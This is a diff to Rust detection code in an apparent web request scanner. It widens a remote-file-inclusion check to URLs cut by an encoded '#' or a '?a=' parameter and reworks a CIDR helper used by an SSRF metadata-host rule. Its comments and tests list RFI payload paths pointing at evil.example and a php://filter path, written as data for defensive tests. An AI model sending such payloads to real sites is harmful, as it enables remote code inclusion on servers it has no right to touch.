@@ -186,15 +186,31 @@ impl UrlChecks {
         if !sink.wants(RFI_INCLUDE_PARAM) || !text.contains("://") {
             return;
         }
-        // A URL in a segment that an encoded `?` ends (`/theme/http%3A%2F%2Fevil.example%2Fx.txt%3F/header.php`):
-        // a rewrite hands the segment to a script that includes it with a suffix of its
-        // own, which the `?` turns into the remote server's query. An image proxy's URL
-        // keeps its query's parameters after the `?`.
+        // A URL in a segment that an encoded `?` or `#` ends
+        // (`/theme/http%3A%2F%2Fevil.example%2Fx.txt%3F/header.php`): a rewrite hands the
+        // segment to a script that includes it with a suffix of its own, which the `?` turns
+        // into the remote server's query (`?a=` into a parameter's value) and the `#` into a
+        // fragment. An image proxy's URL keeps its query's parameters after the `?`.
         for scheme in ["http://", "https://", "ftp://"] {
-            if let Some(at) = text.find(scheme)
-                && let Some(q) = text[at..].find('?')
-                && matches!(text.as_bytes().get(at + q + 1), None | Some(b'/'))
-            {
+            let Some(at) = text.find(scheme) else {
+                continue;
+            };
+            let url = &text[at..];
+            let cut = match url.find(['?', '#']) {
+                Some(q) if url.as_bytes()[q] == b'#' => true,
+                Some(q) => {
+                    let query = &url[q + 1..];
+                    let name = query
+                        .bytes()
+                        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+                        .count();
+                    let rest = query[name..].strip_prefix('=').unwrap_or(&query[name..]);
+                    (name == 0 || query.as_bytes().get(name) == Some(&b'='))
+                        && (rest.is_empty() || rest.starts_with('/'))
+                }
+                None => false,
+            };
+            if cut {
                 sink.hit(RFI_INCLUDE_PARAM, text, at);
                 return;
             }
@@ -230,7 +246,7 @@ impl UrlChecks {
         let text = v.lower();
         if let Some(c) = self.bare_host.captures(text.as_bytes())
             && let (Some(m), Some(host)) = (c.get(0), c.get(1))
-            && !cidr(text.trim())
+            && !cidr_prefix(text.trim())
         {
             let rule = match host.as_bytes() {
                 b"169.254.169.254" => SSRF_METADATA,
@@ -474,20 +490,13 @@ fn cidr_prefix(t: &str) -> bool {
         return false;
     };
     let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
-    let after = rest.as_bytes().get(digits);
-    digits > 0
-        && after.is_none_or(|c| matches!(c, b',' | b'(' | b';' | b' ' | b'\t' | b'\n'))
-        && cidr(&format!("{ip}/{}", &rest[..digits]))
-}
-
-fn cidr(s: &str) -> bool {
-    let Some((ip, bits)) = s.split_once('/') else {
+    let (Ok(ip), Ok(bits)) = (ip.parse::<std::net::IpAddr>(), rest[..digits].parse::<u8>()) else {
         return false;
     };
-    let (Ok(ip), Ok(bits)) = (ip.parse::<std::net::IpAddr>(), bits.parse::<u8>()) else {
-        return false;
-    };
-    bits <= if ip.is_ipv4() { 32 } else { 128 }
+    rest.as_bytes()
+        .get(digits)
+        .is_none_or(|c| matches!(c, b',' | b'('))
+        && bits <= if ip.is_ipv4() { 32 } else { 128 }
 }
 
 /// The URL at the start of `rest` (up to whitespace) is cut so that a suffix the application
@@ -1054,6 +1063,8 @@ mod path_info_tests {
                 "/index.php/php://filter/resource=index",
                 "/theme/http%3A%2F%2Fevil.example%2Fx.txt%3F/header.php",
                 "/inc/https%3A%2F%2Fevil.example%2Fa.txt%3F",
+                "/theme/http%3A%2F%2Fevil%2Fx.txt%23/header.php",
+                "/theme/http%3A%2F%2Fevil%2Fx.txt%3Fa%3D/header.php",
             ],
         );
         rule(
